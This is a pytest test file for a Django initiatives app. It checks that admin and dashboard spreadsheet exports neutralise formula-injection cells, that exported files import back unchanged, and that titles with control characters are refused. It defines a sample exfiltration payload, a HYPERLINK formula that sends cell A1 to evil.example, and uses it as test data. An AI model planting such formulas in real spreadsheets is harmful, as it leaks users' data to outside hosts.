"""No formula runs and no character breaks a workbook, whatever a coordinator typed (issue:
hardening, 2 and 5): every export neutralises formula-looking cells, text fields refuse control
characters with a clear message, and an exported file imports back unchanged."""

import io

import openpyxl
import pytest
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.urls import reverse

from common.spreadsheets import safe_cell, unquote_cell
from initiatives.models import Initiative
from initiatives.services import initiative_update

from .imports import confirm, row_errors, upload

pytestmark = pytest.mark.usefixtures("english")

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'


def admin_export(client, file_format: str) -> bytes:
    model_admin = next(a for m, a in admin.site._registry.items() if m is Initiative)
    resource = model_admin.resource_classes[0]
    data = {"format": file_format, "resource": "0"}
    data.update({f"{resource.__name__.lower()}_{name}": "on" for name in resource().fields})
    response = client.post(reverse("admin:initiatives_initiative_export"), data)
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tx"])
def test_safe_cell_neutralises_every_formula_start_and_unquote_restores_it(value):
    assert safe_cell(value).startswith("'")
    assert unquote_cell(safe_cell(value)) == value
    assert safe_cell("Digital post") == "Digital post" and safe_cell(-5) == -5


@pytest.fixture
def evil(kobenhavn, make_initiative):
    return make_initiative(kobenhavn, code="KK-E", title_da=EVIL, title_en=EVIL)


def test_the_admins_csv_export_writes_the_formula_as_text(kk, evil):
    text = admin_export(kk, "0").decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert ',"=HYPERLINK(' not in text and ",=HYPERLINK(" not in text


def test_the_admins_xlsx_export_holds_no_live_formula(kk, evil):
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(kk, "1"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert cells and all(cell.data_type == "s" and cell.value.startswith("'=") for cell in cells)


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_dashboards_exports_neutralise_formulas_too(secretariat, evil):
    csv_text = body(secretariat.get("/initiatives/export.csv?strategy=2022-2025")).decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv_text
    workbook = openpyxl.load_workbook(io.BytesIO(body(secretariat.get("/initiatives/export.xlsx?strategy=2022-2025"))))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert "'" + EVIL in values and EVIL not in values


def test_an_exported_formula_title_imports_back_unchanged(kk, evil):
    preview = upload(kk, "initiative", admin_export(kk, "0"), "export.csv")
    assert not row_errors(preview)
    confirm(kk, "initiative", preview)
    evil.refresh_from_db()
    assert evil.title_da == EVIL


@pytest.mark.parametrize("char", ["\x01", "\x0b", "\x1b", "\x00"])
def test_a_title_with_a_control_character_is_refused_by_the_service_with_a_clear_message(evil, char):
    with pytest.raises(ValidationError, match="invisible control characters"):
        initiative_update(initiative=evil, title_da=f"Digital{char}post")
    evil.refresh_from_db()
    assert evil.title_da == EVIL  # nothing half saved


def test_a_title_with_a_control_character_is_refused_by_the_admin_form(client, analyst, evil):
    client.force_login(analyst)
    url = reverse("admin:initiatives_initiative_change", args=[evil.pk])
    page = client.get(url)
    form = page.context["adminform"].form
    data = {name: form[name].value() for name in form.fields if form[name].value() is not None}
    for formset in page.context["inline_admin_formsets"]:
        management = formset.formset.management_form
        data.update({management.add_prefix(name): management[name].value() for name in management.fields})
    data["title_da"] = "Digital\x1bpost"
    response = client.post(url, data)
    assert response.status_code == 200
    assert "invisible control characters" in response.content.decode()
    evil.refresh_from_db()
    assert evil.title_da == EVIL


def test_an_import_with_a_control_character_is_refused_and_names_the_field(kk):
    content = b"strategy,code,title_da,lead\n2022-2025,KK-C,Digital\x0bpost,0101\n"
    preview = upload(kk, "initiative", content, "control.csv")
    assert "invisible control characters" in row_errors(preview).get(1, "")
    assert not Initiative.objects.filter(code="KK-C").exists()


def test_a_control_character_already_stored_does_not_break_the_xlsx_export(secretariat, evil):
    Initiative.objects.filter(pk=evil.pk).update(title_da="Gammel\x01titel", title_en="Gammel\x01titel")  # from before the rule
    response = secretariat.get("/initiatives/export.xlsx?strategy=2022-2025")
    assert response.status_code == 200
    values = [cell.value for row in openpyxl.load_workbook(io.BytesIO(body(response))).active.iter_rows() for cell in row]
    assert "Gammel\ufffdtitel" in values
